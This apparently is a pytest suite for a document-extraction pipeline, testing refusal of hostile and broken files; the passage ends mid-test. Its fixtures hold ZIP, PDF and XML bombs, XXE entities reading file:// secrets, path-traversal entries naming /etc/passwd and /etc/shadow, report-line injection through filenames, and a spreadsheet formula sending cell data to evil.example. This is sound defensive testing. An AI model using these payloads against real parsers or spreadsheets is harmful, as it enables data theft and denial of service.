"""Hostile and broken documents: a clear one-line error for each, nothing lost, nothing let in.

Every bad document is generated here, in tmp_path (see tests/hostile_docs.py), never committed. Each test names
the case of docs/bad-documents.md it covers.
"""

from __future__ import annotations

import builtins
import csv
import io
import json
import multiprocessing
import os
import re
import shutil
import signal
import socket
import threading
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from pipeline import read as readers
from pipeline.build import jobs as document_module
from pipeline.build.jobs import DocumentJob, extract_document
from pipeline.build.run import BuildOptions, build, find_documents
from pipeline.model.errors import BuildError, DocumentError
from pipeline.read import guards
from pipeline.read import pdf as pdf_reader
from pipeline.read import text as text_reader

from .. import hostile_docs as h
from ..conftest import RAW_DOCS, SEEDS, load

ONE_LINE_REASON = re.compile(r"^[^\n\r]+ \([^\n\r]+\)$")  # "what is wrong (what to do)"


def extract(tmp_path: Path, name: str, data: bytes, **job) -> dict:
    path = tmp_path / name
    path.write_bytes(data)
    return extract_document(DocumentJob(path=str(path), rel_path=name, doc_id=Path(name).stem, **job))


def failed(result: dict, *fragments: str) -> str:
    """The failure reason, checked: status failed, one line, a remedy in parentheses, no internal error, and
    every fragment present (case-insensitive)."""
    report = result["report"]
    reason = report["reason"] or ""
    assert report["status"] == "failed", report
    assert ONE_LINE_REASON.match(reason), reason
    assert "internal error" not in reason and "Traceback" not in reason, reason
    for fragment in fragments:
        assert fragment.lower() in reason.lower(), reason
    assert result["competencies"] == [] and result["blocks"] == []
    return reason


def texts(result: dict) -> list[str]:
    assert result["report"]["status"] == "ok", result["report"]
    return [b["text"] for b in result["blocks"]]


def raw_folder(tmp_path: Path, name: str = "raw") -> Path:
    raw = tmp_path / name
    raw.mkdir()
    return raw


def good_document(raw: Path) -> str:
    shutil.copy(RAW_DOCS / "customer-focus.html", raw)
    return "customer-focus.html"


def run_build(raw: Path, out: Path, workers: int = 1):
    return build(BuildOptions(raw_dir=raw, out_dir=out, workers=workers, cache_root=None, progress=False))


# --- empty file; zero pages; white space only --------------------------------------------------------------------


@pytest.mark.parametrize("name", ["empty.pdf", "empty.docx", "empty.html", "empty.txt", "empty.md"])
def test_empty_file(tmp_path, name):
    failed(extract(tmp_path, name, b""), "empty (0 bytes)", "replace it")


@pytest.mark.parametrize(
    "name,data",
    [
        ("blank.txt", b"  \n\t\r\n  \x00"),
        ("blank.html", b"\n\n   \n"),
        ("blank.pdf", b" \n \n"),
        ("blank-utf16.txt", " \n\t \n".encode("utf-16")),
        ("blank-bom.md", b"\xef\xbb\xbf \r\n"),
    ],
)
def test_white_space_only(tmp_path, name, data):
    failed(extract(tmp_path, name, data), "only white space")


def test_pdf_with_zero_pages(tmp_path):
    failed(extract(tmp_path, "zero.pdf", h.zero_page_pdf()), "no pages")


def test_pdf_with_blank_pages(tmp_path):
    failed(extract(tmp_path, "blank.pdf", h.blank_pdf()), "blank")


@pytest.mark.parametrize(
    "name,data",
    [
        ("no-text.html", b"<html><head><title>T</title></head><body><div><img src='x.png'></div></body></html>"),
        ("no-text.docx", h.minimal_docx(h.document_xml("", "   "))),
    ],
)
def test_document_without_any_text(tmp_path, name, data):
    failed(extract(tmp_path, name, data), "holds no text")


# --- wrong extension: the content decides, in both directions ---------------------------------------------------


@pytest.mark.parametrize(
    "name,data,fmt",
    [
        ("a-pdf-named.docx", h.text_pdf("Read as a PDF"), "pdf"),
        ("a-pdf-named.html", h.text_pdf("Read as a PDF"), "pdf"),
        ("a-docx-named.pdf", h.minimal_docx(h.document_xml("Read as a DOCX")), "docx"),
        ("a-docx-named.txt", h.minimal_docx(h.document_xml("Read as a DOCX")), "docx"),
        ("html-named.txt", b"<!DOCTYPE html><html><body><p>Read as HTML</p></body></html>", "html"),
        ("html-fragment-named.txt", b"<body><p>Read as HTML</p></body>", "html"),
        ("html-named.docx", b"<html><body><p>Read as HTML</p></body></html>", "html"),
        ("html-utf16-named.txt", "<html><body><p>Read as HTML</p></body></html>".encode("utf-16"), "html"),
        ("text-named.html", b"Read as HTML\n", "html"),
        ("pdf-after-junk.pdf", b"\r\n\xef\xbb\xbf  " + h.text_pdf("Read as a PDF"), "pdf"),
    ],
)
def test_content_decides_the_format(tmp_path, name, data, fmt):
    result = extract(tmp_path, name, data)
    assert result["document"]["format"] == fmt
    assert any(t.startswith("Read as") for t in texts(result))


@pytest.mark.parametrize("name", ["text-named.pdf", "text-named.docx"])
def test_text_named_as_a_binary_format_says_so(tmp_path, name):
    failed(extract(tmp_path, name, b"Just some words, not a binary document.\n"), "its content is not", "mislabelled")


def test_seed_documents_under_each_others_extensions_give_the_same_competencies(tmp_path):
    for seed, wrong in (
        ("customer-service-orientation.docx", ".pdf"),
        ("responsiveness-and-follow-up.pdf", ".docx"),
        ("customer-focus.html", ".txt"),
    ):
        right = extract(tmp_path, seed, (RAW_DOCS / seed).read_bytes())
        renamed = extract(tmp_path, Path(seed).stem + wrong, (RAW_DOCS / seed).read_bytes())
        assert renamed["document"]["format"] == right["document"]["format"]

        def items(result):
            return [(c["name"], [i["text"] for i in c["indicators"]]) for c in result["competencies"]]

        assert items(renamed) == items(right) and items(right)


# --- truncated or corrupt PDF; corrupt ZIP/DOCX; DOCX without word/document.xml ---------------------------------


SEED_PDF = RAW_DOCS / "responsiveness-and-follow-up.pdf"
SEED_DOCX = RAW_DOCS / "customer-service-orientation.docx"


@pytest.mark.parametrize("cut", [9, 100, 0.5, -200])
def test_truncated_pdf(tmp_path, cut):
    data = SEED_PDF.read_bytes()
    data = data[: int(len(data) * cut) if isinstance(cut, float) else cut]
    failed(extract(tmp_path, "truncated.pdf", data), "not a readable PDF", "download or export the PDF again")


def test_corrupt_pdf(tmp_path):
    garbage = bytes((i * 7919) % 251 for i in range(20000))
    failed(extract(tmp_path, "garbage.pdf", b"%PDF-1.7\n" + garbage), "not a readable PDF")


@pytest.mark.parametrize("cut", [4, 200, 0.5, -10])
def test_truncated_docx(tmp_path, cut):
    data = SEED_DOCX.read_bytes()
    data = data[: int(len(data) * cut) if isinstance(cut, float) else cut]
    failed(extract(tmp_path, "truncated.docx", data), "damaged or truncated")


def test_docx_with_a_corrupt_part(tmp_path):
    data = bytearray(h.minimal_docx(h.document_xml(*["Some words of the document."] * 200)))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as package:
        info = package.getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename)
    for i in range(start + 10, start + 40):
        data[i] ^= 0x5A
    failed(extract(tmp_path, "corrupt.docx", bytes(data)), "not a readable DOCX")


def test_docx_missing_word_document_xml(tmp_path):
    data = h.minimal_docx(drop=("word/document.xml",))
    failed(extract(tmp_path, "incomplete.docx", data), "'word/document.xml' is missing", "save it again")


@pytest.mark.parametrize(
    "parts,kind",
    [
        ({"a.txt": b"hello"}, "no [Content_Types].xml"),
        ({"[Content_Types].xml": h.CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"}, "an Excel workbook"),
        ({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}, "OpenDocument"),
    ],
)
def test_a_zip_that_is_not_a_word_document(tmp_path, parts, kind):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    failed(extract(tmp_path, "not-word.docx", out.getvalue()), "not a Word document", kind)


# --- encrypted documents -------------------------------------------------------------------------------------


def test_password_protected_pdf_says_so(tmp_path):
    failed(extract(tmp_path, "locked.pdf", h.encrypted_pdf(b"secret", "Locked text")), "encrypted with a password")


def test_encrypted_pdf_without_a_user_password_is_read(tmp_path):
    result = extract(tmp_path, "restricted.pdf", h.encrypted_pdf(b"", "Readable despite encryption"))
    assert texts(result) == ["Readable despite encryption"]


def test_pdf_encrypted_with_an_unknown_method_says_so(tmp_path):
    objects = h._page_objects(h.text_content("x")) + [b"<< /Filter /NoSuchHandler /V 9 >>"]
    data = h.pdf(objects, b"/Encrypt 6 0 R /ID [<00> <00>] ")
    failed(extract(tmp_path, "odd.pdf", data), "encrypted with a method that cannot be read", "unprotected copy")


@pytest.mark.parametrize("name", ["locked.docx", "locked.doc", "locked.txt"])
def test_password_protected_docx_says_so(tmp_path, name):
    failed(extract(tmp_path, name, h.encrypted_docx()), "encrypted with a password", "without a password")


def test_legacy_doc_is_told_apart_from_an_encrypted_docx(tmp_path):
    assert {"EncryptionInfo", "EncryptedPackage", "Root Entry"} <= readers.ole_stream_names(h.encrypted_docx())
    failed(extract(tmp_path, "old.docx", h.legacy_doc()), "legacy Word 97-2003", "save it as .docx")


def test_zip_level_encrypted_docx_says_so(tmp_path):
    data = h.zip_bytes(
        [
            {"name": "[Content_Types].xml", "data": h.CONTENT_TYPES, "flags": 1},
            {"name": "word/document.xml", "data": h.document_xml("x"), "flags": 1},
        ]
    )
    failed(extract(tmp_path, "zipcrypto.docx", data), "encrypted")


# --- a PDF without a text layer ---------------------------------------------------------------------------------


def test_scanned_pdf_names_ocr_as_the_remedy(tmp_path):
    reason = failed(extract(tmp_path, "scan.pdf", h.image_only_pdf()), "no text layer", "scanned")
    assert "OCR" in reason


# --- legacy encodings, BOMs, line endings, NUL bytes ------------------------------------------------------------

LINES = ["Adaptability – “Café” naïve", "• Adjusts plans when conditions shift", "Œuvre façade ½ €"]


@pytest.mark.parametrize(
    "encoding,prefix",
    [
        ("utf-8", b""),
        ("utf-8", b"\xef\xbb\xbf"),
        ("utf-16-le", b"\xff\xfe"),
        ("utf-16-be", b"\xfe\xff"),
        ("utf-16-le", b""),
        ("utf-32", b""),
        ("cp1252", b""),
    ],
)
def test_text_encodings_are_read_correctly(tmp_path, encoding, prefix):
    data = prefix + "\n".join(LINES).encode(encoding)
    blocks = texts(extract(tmp_path, "encoded.txt", data))
    assert blocks == [LINES[0], "Adjusts plans when conditions shift", LINES[2]]


def test_latin1_text_is_read_correctly(tmp_path):
    lines = ["Compétence: prévoyance", "Señor Müller ¿qué? ± ×", "Zürich"]
    assert texts(extract(tmp_path, "latin1.txt", "\n".join(lines).encode("latin-1"))) == lines


def test_mixed_line_endings_and_nul_bytes(tmp_path):
    data = b"First line\r\nSecond\x00 line\rThird line\nFourth line\r\n\r\n"
    assert texts(extract(tmp_path, "mixed.txt", data)) == ["First line", "Second line", "Third line", "Fourth line"]


@pytest.mark.parametrize(
    "encoding,declaration",
    [
        ("utf-8", ""),
        ("cp1252", ""),
        ("cp1252", "<meta charset='iso-8859-1'>"),
        ("utf-16", ""),
        ("utf-8", "<meta http-equiv='Content-Type' content='text/html; charset=utf-8'>"),
    ],
)
def test_html_encodings_are_read_correctly(tmp_path, encoding, declaration):
    page = f"<html><head>{declaration}</head><body><p>{LINES[0]}</p><p>{LINES[2]}</p></body></html>"
    assert texts(extract(tmp_path, "encoded.html", page.encode(encoding))) == [LINES[0], LINES[2]]


def test_html_with_nul_bytes(tmp_path):
    assert texts(extract(tmp_path, "nul.html", b"<html><body><p>Te\x00xt</p></body></html>")) == ["Text"]


# --- ZIP bombs: refused from the central directory, before anything is decompressed ---------------------------


@pytest.fixture
def no_decompression(monkeypatch):
    """Fail the test if anything asks zipfile for a decompressor."""
    calls = []
    real = zipfile._get_decompressor

    def spy(compress_type):
        calls.append(compress_type)
        return real(compress_type)

    monkeypatch.setattr(zipfile, "_get_decompressor", spy)
    return calls


def test_docx_zip_bomb_is_refused_before_decompressing(tmp_path, no_decompression):
    bomb = h.docx_bomb(1024)  # ~1 MB on disk, 1 GiB inflated
    assert len(bomb) < 2 * 1024 * 1024
    tracemalloc.start()
    try:
        reason = failed(extract(tmp_path, "bomb.docx", bomb), "refused", "ZIP bomb", "nothing was decompressed")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "1024 MB" in reason and f"{guards.MAX_ZIP_MEMBER_BYTES >> 20} MB" in reason
    assert no_decompression == [] and peak < 64 * 1024 * 1024


def test_docx_over_the_compression_ratio_is_refused(tmp_path, no_decompression):
    mib = 8  # under the per-part size limit, but 1000 to 1
    assert mib << 20 < guards.MAX_ZIP_MEMBER_BYTES
    data = h.zip_bytes(
        [
            {"name": "[Content_Types].xml", "data": h.CONTENT_TYPES},
            {
                "name": "word/document.xml",
                "data": h.raw_deflate_of_zeros(mib),
                "method": 8,
                "size": mib << 20,
                "crc": h.crc_of_zeros(mib),
            },
        ]
    )
    failed(extract(tmp_path, "ratio.docx", data), "compressed", "to 1", "ZIP bomb")
    assert no_decompression == []


def test_docx_over_the_total_size_is_refused(tmp_path, no_decompression):
    per_part = 48  # each part under the per-part limit, together over the total
    parts = [{"name": "[Content_Types].xml", "data": h.CONTENT_TYPES}]
    parts += [
        {"name": f"word/media/image{i}.bin", "data": bytes(1 << 20), "size": per_part << 20}
        for i in range(guards.MAX_ZIP_TOTAL_BYTES // (per_part << 20) + 1)
    ]
    failed(extract(tmp_path, "total.docx", h.zip_bytes(parts)), "would inflate to", "ZIP bomb")
    assert no_decompression == []


def test_docx_with_too_many_parts_is_refused(tmp_path):
    parts = [{"name": "[Content_Types].xml", "data": h.CONTENT_TYPES}]
    parts += [{"name": f"customXml/item{i}.xml", "data": b""} for i in range(guards.MAX_ZIP_MEMBERS)]
    failed(extract(tmp_path, "many.docx", h.zip_bytes(parts)), "parts, over the limit")


def test_a_zip_that_understates_its_sizes_cannot_inflate_past_them(tmp_path):
    """The central directory says 1 KB; the data inflates to 64 MiB. zipfile stops at the declared size, so the
    declared sizes the limits check are an upper bound on what reading costs."""
    data = h.zip_bytes(
        [
            {"name": "[Content_Types].xml", "data": h.CONTENT_TYPES},
            {"name": "_rels/.rels", "data": h.ROOT_RELS},
            {"name": "word/document.xml", "data": h.raw_deflate_of_zeros(64), "method": 8, "size": 1024, "crc": 0},
        ]
    )
    tracemalloc.start()
    try:
        failed(extract(tmp_path, "liar.docx", data), "not a readable DOCX")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 32 * 1024 * 1024


def test_pdf_compression_bomb_is_refused(tmp_path):
    mib = 200  # 200 KB on disk
    tracemalloc.start()
    try:
        failed(extract(tmp_path, "bomb.pdf", h.flate_bomb_pdf(mib)), "compression bomb")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 64 * 1024 * 1024


# --- XML external entities and DTDs: never resolved, never fetched ----------------------------------------------


@pytest.fixture
def listener():
    """A local TCP server that counts connections: an entity or resource that is fetched shows up here."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    hits = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            hits.append(conn.recv(1024))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}", hits
    stop.set()
    thread.join(2)
    server.close()


def test_docx_external_entities_are_never_resolved_or_fetched(tmp_path, listener):
    url, hits = listener
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-4711", encoding="utf-8")
    prolog = (
        f'<!DOCTYPE w:document [<!ENTITY local SYSTEM "file://{secret}">'
        f'<!ENTITY remote SYSTEM "{url}/entity"><!ENTITY % dtd SYSTEM "{url}/dtd"> %dtd;]>\n'
    )
    data = h.minimal_docx(h.document_xml("Before &local; after", "Remote &remote; end", prolog=prolog))
    result = extract(tmp_path, "xxe.docx", data)
    assert texts(result) == ["Before  after", "Remote  end"]
    assert "TOPSECRET" not in json.dumps(result) and hits == []
    assert any("never resolved" in w["message"] for w in result["report"]["warnings"])


def test_docx_billion_laughs_is_refused(tmp_path):
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi")
    )
    data = h.minimal_docx(h.document_xml("x &i; y", prolog=f"<!DOCTYPE w:document [{entities}]>\n"))
    failed(extract(tmp_path, "laughs.docx", data), "XML bomb")


def test_html_external_entities_and_resources_are_never_fetched(tmp_path, listener):
    url, hits = listener
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-4711", encoding="utf-8")
    page = (
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY local SYSTEM "file://{secret}">'
        f'<!ENTITY remote SYSTEM "{url}/entity">]><html><head><link rel="stylesheet" href="{url}/css">'
        f'<script src="{url}/js"></script></head><body><p>Before &local; after</p>'
        f'<img src="{url}/img"><iframe src="file://{secret}"></iframe><p>Remote &remote; end</p></body></html>'
    )
    result = extract(tmp_path, "xxe.html", page.encode())
    assert texts(result) == ["Before &local; after", "Remote &remote; end"]
    assert "TOPSECRET" not in json.dumps(result) and hits == []


# --- deeply nested, enormous and slow documents -----------------------------------------------------------------


def test_deeply_nested_html_is_refused(tmp_path):
    page = b"<html><body>" + b"<div>" * 5000 + b"<p>deep</p>" + b"</div>" * 5000 + b"</body></html>"
    failed(extract(tmp_path, "deep.html", page), "nested too deeply")


def test_html_nested_just_under_the_limit_is_read(tmp_path):
    depth = 120  # ul > li pairs: 240 levels, under the parser's 256
    page = b"<html><body>" + b"<ul><li>item" * depth + b"</li></ul>" * depth + b"</body></html>"
    assert texts(extract(tmp_path, "nested.html", page)).count("item") == depth


def test_deeply_nested_docx_is_refused(tmp_path):
    nested = "<w:sdt><w:sdtContent>" * 300 + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + "</w:sdtContent></w:sdt>" * 300
    xml = f'<?xml version="1.0"?><w:document {h.W_NS}><w:body>{nested}</w:body></w:document>'.encode()
    failed(extract(tmp_path, "deep.docx", h.minimal_docx(xml)), "nested too deeply")


def test_a_50_mb_document_is_refused_before_reading(tmp_path, monkeypatch):
    path = tmp_path / "huge.pdf"
    with open(path, "wb") as f:
        f.write(b"%PDF-1.7\n")
        f.truncate(50 * 1024 * 1024)  # sparse: no disk used
    monkeypatch.setattr(readers, "read", lambda *a, **k: pytest.fail("the reader must not be called"))
    result = extract_document(DocumentJob(path=str(path), rel_path="huge.pdf", doc_id="huge"))
    failed(result, "too large", "50 MB", f"{guards.MAX_DOCUMENT_BYTES >> 20} MB", "refused without reading", "split it")
    assert result["document"]["sha256"] is None  # never read


def test_a_pdf_over_the_page_limit_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(pdf_reader, "MAX_PDF_PAGES", 3)
    pages = b" ".join(b"%d 0 R" % n for n in range(3, 8))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + pages + b"] /Count 5 >>"]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * 5
    failed(extract(tmp_path, "long.pdf", h.pdf(objects)), "5 pages, over the limit of 3", "split it")


def test_a_file_that_vanished_is_reported(tmp_path):
    result = extract_document(DocumentJob(path=str(tmp_path / "gone.pdf"), rel_path="gone.pdf", doc_id="gone"))
    failed(result, "disappeared")


def test_an_enormous_html_page_is_refused(tmp_path):
    limit = guards.MAX_DOCUMENT_BYTES
    page = b"<html><body>" + b"<p>word</p>" * (limit // 11 + 1) + b"</body></html>"
    failed(extract(tmp_path, "enormous.html", page), "too large")


def _slow_reader(real):
    def read(path, fmt, data=None):
        if "slow" in Path(path).name:
            while True:  # a reader stuck in a loop
                time.sleep(0.01)
        return real(path, fmt, data)

    return read


def test_a_slow_document_is_stopped_by_the_time_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(readers, "read", _slow_reader(readers.read))
    sentinel = lambda signum, frame: None  # noqa: E731
    previous = signal.signal(signal.SIGALRM, sentinel)
    try:
        started = time.perf_counter()
        result = extract(tmp_path, "slow.txt", b"Some text\n", time_limit=0.3)
        elapsed = time.perf_counter() - started
        assert signal.getsignal(signal.SIGALRM) is sentinel  # the previous handler is back
        assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0)  # and no alarm is left pending
    finally:
        signal.signal(signal.SIGALRM, previous)
    failed(result, "time limit of 0.3 s", document_module.TIME_LIMIT_ENV)
    assert elapsed >= 0.3  # not stopped before its limit


def test_the_time_limit_comes_from_the_environment(tmp_path, monkeypatch):
    monkeypatch.setattr(readers, "read", _slow_reader(readers.read))
    monkeypatch.setenv(document_module.TIME_LIMIT_ENV, "0.2")
    assert document_module.time_limit_of(DocumentJob("a", "a", "a")) == 0.2
    assert document_module.time_limit_of(DocumentJob("a", "a", "a", time_limit=5)) == 5
    failed(extract(tmp_path, "slow.html", b"<p>x</p>"), "time limit of 0.2 s")
    monkeypatch.delenv(document_module.TIME_LIMIT_ENV)
    assert document_module.time_limit_of(DocumentJob("a", "a", "a")) == document_module.DEFAULT_TIME_LIMIT


def test_an_outer_timer_survives_a_document(tmp_path):
    fired = []
    previous = signal.signal(signal.SIGALRM, lambda signum, frame: fired.append(signum))
    try:
        signal.setitimer(signal.ITIMER_REAL, 5.0)
        texts(extract(tmp_path, "fine.txt", b"Fine text\n", time_limit=1))
        remaining = signal.getitimer(signal.ITIMER_REAL)[0]
        assert 3.0 < remaining <= 5.0
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    assert fired == []


@pytest.mark.parametrize("workers", [1, 2])
def test_the_rest_of_the_build_goes_on_after_a_timeout(tmp_path, monkeypatch, workers):
    if workers > 1 and multiprocessing.get_start_method() != "fork":
        pytest.skip("the monkeypatched reader reaches pool workers only when they are forked")
    monkeypatch.setattr(readers, "read", _slow_reader(readers.read))
    monkeypatch.setenv(document_module.TIME_LIMIT_ENV, "0.5")
    raw = raw_folder(tmp_path)
    good = good_document(raw)
    (raw / "slow.txt").write_text("Stuck\n", encoding="utf-8")
    outcome = run_build(raw, tmp_path / "out", workers=workers)
    assert outcome.exit_code == 1
    status = {d["path"]: d for d in outcome.report["documents"]}
    assert status[good]["status"] == "ok"
    assert "time limit of 0.5 s" in status["slow.txt"]["reason"]
    assert load(tmp_path / "out" / "competencies.json")["competencies"]


# --- permissions, symbolic links, pipes, paths that leave raw_docs/ ---------------------------------------------


def test_an_unreadable_file_is_reported(tmp_path, monkeypatch):
    raw = raw_folder(tmp_path)
    good = good_document(raw)
    locked = raw / "locked.txt"
    locked.write_text("Secret\n", encoding="utf-8")
    locked.chmod(0)
    if os.geteuid() == 0:  # root reads through chmod 000: make the read fail as it would for anyone else
        real_open = os.open

        def guarded_open(path, *args, **kwargs):
            if Path(os.fsdecode(path)).name == "locked.txt":
                raise PermissionError(13, "Permission denied", os.fsdecode(path))
            return real_open(path, *args, **kwargs)

        monkeypatch.setattr(os, "open", guarded_open)
    try:
        outcome = run_build(raw, tmp_path / "out")
    finally:
        locked.chmod(0o644)
    assert outcome.exit_code == 1
    docs = {d["path"]: d for d in outcome.report["documents"]}
    assert docs[good]["status"] == "ok"
    reason = docs["locked.txt"]["reason"]
    assert "Permission denied" in reason and "check its permissions" in reason
    assert ONE_LINE_REASON.match(reason)


@pytest.fixture
def open_spy(monkeypatch):
    """Every path opened through open(), io.open or os.open during the test."""
    opened: list[str] = []
    real_open, real_os_open = builtins.open, os.open

    def spy_open(file, *args, **kwargs):
        if isinstance(file, (str, bytes, os.PathLike)):
            opened.append(os.path.realpath(os.fsdecode(file)))
        return real_open(file, *args, **kwargs)

    def spy_os_open(path, *args, **kwargs):
        opened.append(os.path.realpath(os.fsdecode(path)))
        return real_os_open(path, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", spy_open)
    monkeypatch.setattr(io, "open", spy_open)
    monkeypatch.setattr(os, "open", spy_os_open)
    return opened


def test_symbolic_links_leading_outside_raw_docs_are_refused(tmp_path, open_spy):
    outside = raw_folder(tmp_path, "outside")
    secret = outside / "secret.txt"
    secret.write_text("TOPSECRET-4711\n", encoding="utf-8")
    raw = raw_folder(tmp_path)
    good = good_document(raw)
    (raw / "link.txt").symlink_to(secret)
    (raw / "linked-folder").symlink_to(outside, target_is_directory=True)
    (raw / "inside-link.html").symlink_to(raw / good)
    open_spy.clear()
    found, refused = find_documents(raw)
    assert found == [good, "inside-link.html"]
    assert {r["path"]: r["reason"] for r in refused} == {
        "link.txt": "a symbolic link pointing outside the raw documents folder: refused (copy the file in instead)",
        "linked-folder": "a symbolic link to a folder outside the raw documents folder: refused "
        "(copy the files in instead)",
    }
    outcome = run_build(raw, tmp_path / "out")
    assert outcome.exit_code == 1
    assert any(line.startswith("FAILED link.txt: a symbolic link") for line in outcome.messages)
    assert str(secret.resolve()) not in open_spy
    assert all(
        "TOPSECRET" not in p.read_text(encoding="utf-8", errors="replace")
        for p in (tmp_path / "out").rglob("*")
        if p.is_file()
    )


def test_a_named_pipe_never_blocks_the_build(tmp_path):
    raw = raw_folder(tmp_path)
    good = good_document(raw)
    os.mkfifo(raw / "pipe.txt")
    found, refused = find_documents(raw)
    assert found == [good] and refused[0]["path"] == "pipe.txt" and "not an ordinary file" in refused[0]["reason"]
    # and extraction itself refuses one without blocking (O_NONBLOCK), should it ever be handed one
    result = extract_document(DocumentJob(path=str(raw / "pipe.txt"), rel_path="pipe.txt", doc_id="pipe", time_limit=5))
    failed(result, "not an ordinary file")


@pytest.mark.parametrize(
    "name,shown",
    [
        ("evil\nFAILED other.pdf: fake.txt", "evil\\nFAILED other.pdf: fake.txt"),
        ("bidi\u202etxt.exe.txt", "bidi\\u202etxt.exe.txt"),
    ],
)
def test_file_names_that_would_break_the_report_lines_are_refused(tmp_path, name, shown):
    raw = raw_folder(tmp_path)
    good_document(raw)
    (raw / name).write_text("Text\n", encoding="utf-8")
    outcome = run_build(raw, tmp_path / "out")
    failures = [line for line in outcome.messages if line.startswith("FAILED")]
    assert failures == [f"FAILED {shown}: its name holds control characters or bytes that are not UTF-8 (rename it)"]


def test_a_file_name_that_is_not_utf8_is_refused(tmp_path):
    raw = raw_folder(tmp_path)
    good_document(raw)
    try:
        (Path(os.fsencode(raw)) / b"caf\xe9.txt").write_bytes(b"Text\n")
    except (OSError, TypeError):
        fd = os.open(os.path.join(os.fsencode(raw), b"caf\xe9.txt"), os.O_WRONLY | os.O_CREAT)
        os.write(fd, b"Text\n")
        os.close(fd)
    outcome = run_build(raw, tmp_path / "out")
    assert outcome.exit_code == 1
    report = json.loads((tmp_path / "out" / "build-report.json").read_text(encoding="utf-8"))
    assert any(d["path"] == "caf\\xe9.txt" and "not UTF-8" in d["reason"] for d in report["documents"])


def test_manifest_entries_leaving_raw_docs_are_refused_and_never_read(tmp_path, open_spy):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-4711\n", encoding="utf-8")
    raw = raw_folder(tmp_path)
    good = good_document(raw)
    (raw / "manifest.yaml").write_text(
        "documents:\n"
        "  ../../etc/passwd:\n    publisher: nobody\n"
        "  ../secret.txt:\n    name: Stolen\n"
        "  /etc/shadow:\n    url: file:///etc/shadow\n"
        "  'C:\\Windows\\win.ini':\n    publisher: nobody\n"
        f"  {good}: just a string\n",
        encoding="utf-8",
    )
    open_spy.clear()
    outcome = run_build(raw, tmp_path / "out")
    problems = outcome.report["manifest_problems"]
    for entry in ("../../etc/passwd", "../secret.txt", "/etc/shadow"):
        assert any(f"entry {entry!r} refused: its path leaves the raw documents folder" in p for p in problems)
    assert any(good in p and "ignored" in p for p in problems)
    assert any(
        line.startswith("warning manifest.yaml line 2: entry '../../etc/passwd' refused") for line in outcome.messages
    )
    assert [d["path"] for d in outcome.report["documents"]] == [good]
    assert not {str(secret.resolve()), "/etc/passwd", "/etc/shadow"} & set(open_spy)
    assert all(
        "TOPSECRET" not in p.read_text(encoding="utf-8", errors="replace")
        for p in (tmp_path / "out").rglob("*")
        if p.is_file()
    )


# --- markup in document text reaches the tables only as text ----------------------------------------------------

HOSTILE_TEXT = """Hostile Competency

Definition
Shows <script>alert('x')</script> as text and never runs it.

Behavioral Indicators
• =HYPERLINK("http://evil.example/?d="&A1,"Click for details")
• Follows a <a href="javascript:alert(2)">javascript: link</a> only as words.
• @SUM(1+1) stays text.
"""


def _csv_cells(folder: Path) -> list[str]:
    cells = []
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells.extend(cell for row in csv.reader(f) for cell in row)
    return cells


@pytest.fixture
def hostile_tables(tmp_path):
    raw = raw_folder(tmp_path)
    (raw / "hostile.txt").write_text(HOSTILE_TEXT, encoding="utf-8")
    assert run_build(raw, tmp_path / "out").exit_code == 0
    return tmp_path / "out" / "tables"


def test_markup_in_document_text_reaches_the_csv_tables_as_literal_text(hostile_tables):
    cells = _csv_cells(hostile_tables)
    assert "Shows <script>alert('x')</script> as text and never runs it." in cells
    assert 'Follows a <a href="javascript:alert(2)">javascript: link</a> only as words.' in cells
    assert any("HYPERLINK" in c for c in cells)


def test_a_formula_like_cell_cannot_execute_in_a_spreadsheet(hostile_tables):
    risky = [c for c in _csv_cells(hostile_tables) if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert risky == []


# --- behaviour for all of them: one line each, the rest built, exit codes, the published dataset intact ---------

BAD_DOCUMENTS = {
    "empty.pdf": b"",
    "blank.txt": b"  \n \r\n",
    "zero-pages.pdf": h.zero_page_pdf(),
    "truncated.pdf": SEED_PDF.read_bytes()[:5000],
    "truncated.docx": SEED_DOCX.read_bytes()[:3000],
    "incomplete.docx": h.minimal_docx(drop=("word/document.xml",)),
    "locked.pdf": h.encrypted_pdf(b"secret"),
    "locked.docx": h.encrypted_docx(),
    "scan.pdf": h.image_only_pdf(),
    "bomb.docx": h.docx_bomb(300),
    "deep.html": b"<html><body>" + b"<div>" * 400 + b"x" + b"</div>" * 400 + b"</body></html>",
    "text.pdf": b"not a PDF at all\n",
    "old.docx": h.legacy_doc(),
}


def test_every_bad_document_fails_alone_with_one_line_and_the_rest_is_published(tmp_path):
    raw = raw_folder(tmp_path)
    good = good_document(raw)
    for name, data in BAD_DOCUMENTS.items():
